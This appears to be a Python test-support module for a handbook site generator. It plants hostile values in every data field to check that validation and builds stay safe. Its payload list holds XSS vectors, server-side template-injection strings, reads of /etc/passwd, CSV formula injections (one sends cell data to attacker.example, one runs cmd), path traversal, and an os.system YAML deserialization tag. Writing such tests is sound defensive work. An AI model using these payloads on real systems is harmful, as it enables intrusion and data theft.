"""The hostile corpus and the field walker: untrusted values for every field of the data model.

Every line of `data/*.yaml` arrives by pull request, so every field is attacker-controlled. This
module holds what the tests put there, and finds where "there" is:

- `PAYLOADS`: a flat list of `Payload(cls, value, expect)`. Add a case by adding a line. A
  script payload calls `window.__hb_pwned(...)`, `alert(...)` or sets `document.title = 'PWNED'`,
  which is what the browser test watches for. `raw=True` values are YAML source, spliced into
  the file as written (unknown tags, huge integers, `yes`); the others are Python strings,
  written double-quoted so any character (NUL, U+0085, U+2028 ...) reaches the loader.
  `expect` says which outcome is a pass, beyond "never a traceback, and an error is located":
  `inert` either outcome (if accepted, the build tests check it stays text); `reject` an error
  in every field; `accept` no error in any free-text field (`kind == "text"`); `reject-typed`
  an error in number, date, bool and enum fields; `reject-pattern` an error in fields with a
  pattern (ids, the logo's path).
- `fields()`: every leaf of every model in `handbook.data.model.FILES`, generated from the pydantic
  annotations, as a pattern such as `services[].offers[].charges[].label` with its kind (text,
  pattern, email, url, date, number, bool, enum). An unknown kind of annotation raises, so a new
  type is noticed. `targets(base)` finds, for each pattern, the first place it is written in a
  base data folder (`COMPLETE`, which writes every field; a test keeps it so).
- `write_data(...)` copies the base with values put into targets; `accepted(...)` picks, per
  field, a payload of the given classes that validation accepts (for the build tests, which put
  payloads into every field at once).

Used by tests/test_hostile_input.py (validation of every field x payload, the CLI, one real build
of site and PDF per class) and tests/browser/test_hostile_pages.py (Chromium over one build).
"""

from __future__ import annotations

import copy
import functools
import datetime as dt
import enum
import re
import shutil
import types
import typing
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import yaml
from pydantic import BaseModel

from handbook.data.model.units import Unit
from handbook.data.load import format_path, load_text
from handbook.data.model import FILES

CASES = Path(__file__).parent / "cases"
COMPLETE = CASES / "complete"  # every field of every model written somewhere; an archived edition
TODAY = dt.date(2026, 11, 1)
MARKER = "__hb_pwned"
PASSWD = "root:x:0:0"  # the first line of /etc/passwd: never in an output
LOGO_OUTSIDE = "../" * 12 + "usr/share/pixmaps/debian-logo.png"  # a real file outside docs/


@dataclass(frozen=True)
class Payload:
    cls: str
    value: str
    expect: str = "inert"
    raw: bool = False

    @property
    def label(self) -> str:
        shown = self.value if len(self.value) < 60 else f"{self.value[:40]}... ({len(self.value)} chars)"
        return f"{self.cls}:{shown!r}"


def _p(cls: str, expect: str = "inert", raw: bool = False, *values: str) -> list[Payload]:
    return [Payload(cls, v, expect, raw) for v in values]


PAYLOADS: list[Payload] = [
    *_p("html", "inert", False,
        f"<script>{MARKER}('script')</script>",
        f"<img src=x onerror={MARKER}('img')>",
        f'"><svg onload={MARKER}("svg")>',
        f"</textarea><script>{MARKER}('textarea')</script>",
        f"</title><script>{MARKER}('title')</script>",
        f'<iframe src="javascript:{MARKER}(\'iframe\')"></iframe>',
        f"<details open ontoggle={MARKER}('details')>x</details>",
        f'<a href="javascript:{MARKER}(\'a\')">click</a>',
        "<style>body{display:none}</style><!--"),
    *_p("attribute", "inert", False,
        f'" autofocus onfocus="{MARKER}(\'dq\')" x="',
        f"' autofocus onfocus='{MARKER}(\"sq\")' x='",
        f"x onmouseover={MARKER}('bare') tabindex=0 autofocus onfocus={MARKER}('bare2')",
        '" onmouseover="alert(1)'),
    *_p("markdown", "inert", False,
        f"[t](javascript:{MARKER}('md-link'))",
        "[t](data:text/html,<script>alert(1)</script>)",
        f"![x](javascript:{MARKER}('md-img'))",
        f"<javascript:{MARKER}('autolink')>",
        f"Heading {{: onfocus=\"{MARKER}('attr-list')\" autofocus tabindex=0 }}",
        f"Para\n{{: onclick=\"{MARKER}('attr-list-block')\" autofocus onfocus=\"{MARKER}('attr-list-block')\" }}",
        f"[t][r]\n\n[r]: javascript:{MARKER}('ref')",
        f"<div onclick=\"{MARKER}('block')\">\n\nblock\n\n</div>",
        f"[t](JaVaScRiPt:{MARKER}('md-case'))",
        "![pixel](https://attacker.example/pixel.png)",
        "[t](https://attacker.example/ 'title\" onmouseover=\"alert(1)')"),
    *_p("template", "inert", False,
        "{{ config }}", "{% raw %}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ 7*7 }}",
        "{% include '/etc/passwd' %}", "{# unclosed", "{{ macros }} {% if %}"),
    *_p("frontmatter", "inert", False,
        "---\ntitle: x\n---", f"x\n---\n<script>{MARKER}('fm')</script>", "title: PWNED\nhide: [navigation]"),
    *_p("frontmatter", "reject", False, "Name\x85title: PWNED"),
    *_p("control", "reject", False,
        "a\x00b", "a\x07b", "a\x1bb", "a\x7fb", "a\x85b", "a\x9bb", "a\u202eb", "a\u2066b", "a\ufffeb", "a\ufdd0b", "a\uffffb"),
    *_p("typst", "inert", False,
        '#read("/etc/passwd")', "#panic()", "$x^2$", "<label>", "@ref", "]", "\\", '#{panic("PWNED")}',
        '#let x = read("/etc/passwd") #x', "*bold* _em_ `raw`", "/* open comment", "// line comment", "#image(\"/etc/passwd\")"),
    *_p("csv", "inert", False,
        '=HYPERLINK("https://attacker.example/?x="&A1,"click")', "+1", "-1+1", "@SUM(1)", "\t=1+1", "=1+1;cmd|'/c calc'!A0",
        "\r=1+1"),
    *_p("json", "inert", False,
        f"</script><script>{MARKER}('json')</script>", f"a\u2028b\u2029c", f"\"}};{MARKER}('json2');//", "\\u003cscript\\u003e"),
    *_p("path", "reject-pattern", False,
        "../../../../../../etc/passwd", "/etc/passwd", LOGO_OUTSIDE, "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd"),
    *_p("yaml", "reject", True, "!ENV HOME", '!!python/object/apply:os.system ["true"]', "[a, b]", "{a: b}"),
    *_p("yaml", "reject-typed", True, "1" * 5000, "yes", "no", "on", "1e3", "012", "1_000", "0x1F", ".inf"),
    *_p("url", "inert", False,
        f"javascript:{MARKER}('url')", f"JaVaScRiPt:{MARKER}('url')", f"java\tscript:{MARKER}('url')",
        f"&#106;avascript:{MARKER}('url')", f"javascript://x.example/%0a{MARKER}('url')", f" javascript:{MARKER}('url')",
        "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "file:///etc/passwd"),
    *_p("long", "reject", False, "x" * 30_000, "x" * 100_000, "x" * 1_000_000),
    *_p("unicode", "accept", False, "欢迎来到威斯特马奇学校服务手册", "اسکولوں کے لیے خدمات میں خوش آمدید", "Zażółć gęślą jaźń, Łódź"),
    *_p("unicode", "inert", False, "Reading club 📚 for 🇬🇧 schools", "a\ue000b", "Z̴̧a̸l̷g̵o̶ text", "a\u200bb\u200fc"),
    *_p("cost", "inert", False, "> " * 2000 + "deep", "- " * 2000 + "deep", "[" * 3000 + "x" + "]" * 3000, "*_" * 5000),
]

CLASSES = list(dict.fromkeys(p.cls for p in PAYLOADS))
# Classes whose payloads try to run script: the browser test's build holds these.
SCRIPT_CLASSES = ["html", "attribute", "markdown", "template", "frontmatter", "json", "url"]


# --- The field walker -------------------------------------------------------------------------

@dataclass(frozen=True)
class Field:
    file: str  # stem: authority, services ...
    pattern: tuple  # field names, with `None` for "any item of the list"
    kind: str  # text, pattern, email, url, date, number, bool, enum
    regex: str | None = None

    @property
    def name(self) -> str:
        return f"{self.file}:" + "".join("[]" if p is None else f".{p}" for p in self.pattern).lstrip(".")


@dataclass(frozen=True)
class Target:
    field: Field
    path: tuple  # a concrete path in the base data, e.g. ('services', 0, 'name')

    @property
    def file(self) -> str:
        return self.field.file

    @property
    def shown(self) -> str:
        return format_path(self.path)

    def __str__(self) -> str:
        return f"{self.file}.yaml:{self.shown}"


def _leaf_kind(tp: Any, metadata: list) -> tuple[str, str | None]:
    regex = next((m.pattern for m in metadata if getattr(m, "pattern", None)), None)
    if isinstance(tp, type):
        if issubclass(tp, (enum.Enum, Unit)):  # a unit is parsed from a closed grammar of phrases
            return "enum", None
        if issubclass(tp, bool):
            return "bool", None
        if issubclass(tp, (int, float, Decimal)):
            return "number", None
        if issubclass(tp, (dt.date, dt.datetime)):
            return "date", None
        if issubclass(tp, str):
            if any(_schema_format(m) == "email" for m in metadata):  # `types.Email`: text checked as an address
                return "email", None
            return ("pattern" if regex else "text"), regex
        if "Email" in tp.__name__:
            return "email", None
        if "Url" in tp.__name__:
            return "url", None
    raise TypeError(f"tests/hostile.py does not know this kind of field: {tp!r}; teach _leaf_kind about it")


def _schema_format(metadata: Any) -> str | None:
    """The JSON Schema `format` a field's metadata (a `Field(json_schema_extra=…)`) gives, if any."""
    extra = getattr(metadata, "json_schema_extra", None)
    return extra.get("format") if isinstance(extra, dict) else None


def _walk(tp: Any, metadata: list, prefix: tuple, file: str) -> list[Field]:
    origin = typing.get_origin(tp)
    if origin is typing.Annotated:
        base, *extra = typing.get_args(tp)
        found = [m for e in extra for m in ([e] + list(getattr(e, "metadata", []) or []))]
        return _walk(base, metadata + found, prefix, file)
    if origin in (typing.Union, types.UnionType):
        options = [a for a in typing.get_args(tp) if a is not type(None)]
        return [f for a in options[:1] for f in _walk(a, metadata, prefix, file)]
    if origin in (list, tuple, set, frozenset):
        return _walk(typing.get_args(tp)[0], [], prefix + (None,), file)
    if origin is dict or origin is typing.Literal:
        raise TypeError(f"tests/hostile.py does not walk {tp!r} yet ({file}:{prefix})")
    if isinstance(tp, type) and issubclass(tp, BaseModel):
        out = []
        for name, info in tp.model_fields.items():
            out += _walk(info.annotation, [*info.metadata, info], prefix + (name,), file)
        return out
    kind, regex = _leaf_kind(tp, metadata)
    return [Field(file, prefix, kind, regex)]


def fields() -> list[Field]:
    """Every leaf field of every data file's model, from the pydantic annotations."""
    return [f for stem, model in FILES.items() for f in _walk(model, [], (), stem)]


@functools.lru_cache(maxsize=None)
def read_values(path: Path) -> Any:
    """The values of a base file (shared: never change them; `dump` copies what it changes)."""
    doc, problems = load_text(path.read_text(encoding="utf-8"), str(path))
    assert doc is not None and not problems, problems
    return doc.value


def _first(value: Any, pattern: tuple, done: tuple = ()) -> tuple | None:
    if not pattern:
        return done
    head, rest = pattern[0], pattern[1:]
    if head is None:
        for i, item in enumerate(value if isinstance(value, list) else []):
            found = _first(item, rest, done + (i,))
            if found is not None:
                return found
        return None
    if isinstance(value, dict) and head in value:
        return _first(value[head], rest, done + (head,))
    return None


def targets(base: Path = COMPLETE) -> tuple[list[Target], list[Field]]:
    """(the first written place of each field in `base`, the fields written nowhere)."""
    values = {stem: read_values(base / f"{stem}.yaml") for stem in FILES}
    found, missing = [], []
    for f in fields():
        path = _first(values[f.file], f.pattern)
        (missing.append(f) if path is None else found.append(Target(f, path)))
    return found, missing


# --- Writing data with payloads in it ---------------------------------------------------------

class _Quoted(str):
    """A payload written double-quoted: every character survives, escaped where YAML needs it."""


class _Raw(str):
    """A placeholder replaced afterwards by a raw payload's YAML source."""


class _Dumper(getattr(yaml, "CSafeDumper", yaml.SafeDumper)):  # the C emitter is ten times faster
    pass


_Dumper.add_representer(Decimal, lambda d, v: d.represent_scalar("tag:yaml.org,2002:str", str(v), style=""))
_Dumper.add_representer(_Quoted, lambda d, v: d.represent_scalar("tag:yaml.org,2002:str", str(v), style='"'))
_Dumper.add_representer(_Raw, lambda d, v: d.represent_scalar("tag:yaml.org,2002:str", str(v), style=""))


def _put(values: Any, path: tuple, new: Any) -> Any:
    """`values` with `new` at `path`, copying only the containers on the way (the rest is shared)."""
    if not path:
        return new
    copied = copy.copy(values)
    copied[path[0]] = _put(values[path[0]], path[1:], new)
    return copied


def dump(values: Any, injections: list[tuple[Target, Payload]]) -> str:
    """`values` as YAML, each target holding its payload (raw ones spliced in as written)."""
    raws = {}
    for i, (target, payload) in enumerate(injections):
        if payload.raw:
            raws[f"HOSTILE-PLACEHOLDER-{i}"] = payload.value
            values = _put(values, target.path, _Raw(f"HOSTILE-PLACEHOLDER-{i}"))
        else:
            values = _put(values, target.path, _Quoted(payload.value))
    text = yaml.dump(values, Dumper=_Dumper, allow_unicode=True, sort_keys=False, width=10**9)
    for placeholder, raw in raws.items():
        text = re.sub(rf"(?<=[\s:\-]){placeholder}(?=\s)", lambda _: raw, text, count=1)
    return text


def line_of(values: Any, target: Target) -> int:
    """The line the target's value starts on once dumped (the payload never moves it)."""
    doc, _ = load_text(dump(values, []), "x")
    return doc.locate(target.path)[0]


def write_data(folder: Path, injections: list[tuple[Target, Payload]], base: Path = COMPLETE) -> Path:
    """A copy of `base` at `folder` with each target holding its payload."""
    if not folder.exists():
        shutil.copytree(base, folder)
    for stem in {t.file for t, _ in injections}:
        mine = [(t, p) for t, p in injections if t.file == stem]
        (folder / f"{stem}.yaml").write_text(dump(read_values(base / f"{stem}.yaml"), mine), encoding="utf-8")
    return folder


def could_accept(field: Field, payload: Payload) -> bool:
    """False when the field's own pattern already rules the payload out (saves a validation)."""
    return not (field.regex and not payload.raw and not re.fullmatch(field.regex, payload.value.strip()))


# --- Choosing what a build holds ---------------------------------------------------------------

TYPED = {"date", "number", "bool", "enum"}


def by_class(classes: list[str]) -> list[Payload]:
    return [p for p in PAYLOADS if p.cls in classes]


def _error_paths(result) -> list[str]:
    from handbook.core.errors import Level

    return [p.path for p in result.problems if p.level is Level.ERROR]


def under(path: str, field: str) -> bool:
    return path == field or path.startswith((field + ".", field + "["))


def accepted(classes: list[str], scratch: Path, all_targets: list[Target]) -> list[tuple[Target, Payload]]:
    """One payload of `classes` per field that validation accepts there, all accepted together.

    Why rotate: field i tries the class's payloads starting at the i-th, so one build shows
    every payload somewhere. A value that is fine alone but not beside the others is dropped.
    """
    from handbook.data.validate import validate

    pool = by_class(classes)
    write_data(scratch, [])
    chosen: list[tuple[Target, Payload]] = []
    for i, target in enumerate(t for t in all_targets if t.field.kind not in TYPED):
        for payload in pool[i % len(pool):] + pool[: i % len(pool)]:
            if not could_accept(target.field, payload):
                continue
            write_data(scratch, [(target, payload)])
            try:
                result = validate(scratch, today=TODAY)
            except Exception:  # noqa: BLE001 - a crash is the fast tests' finding; not built here
                continue
            finally:
                shutil.copy(COMPLETE / f"{target.file}.yaml", scratch / f"{target.file}.yaml")
            if result.ok and not any(under(p.path, target.shown) for p in result.problems):
                chosen.append((target, payload))
                break
    for _ in range(5):
        write_data(scratch, chosen)
        errors = _error_paths(validate(scratch, today=TODAY))
        if not errors:
            return chosen
        chosen = [(t, p) for t, p in chosen if not any(under(e, t.shown) for e in errors)]
    raise AssertionError(f"the accepted payloads of {classes} are not accepted together: {errors}")


def build_site(data: Path, work: Path) -> Path:
    """The real site and PDF of `data`, built in a project copy under `work` (as `make site`)."""
    from tests.site import helpers

    return helpers.build_site(data, work / "project")
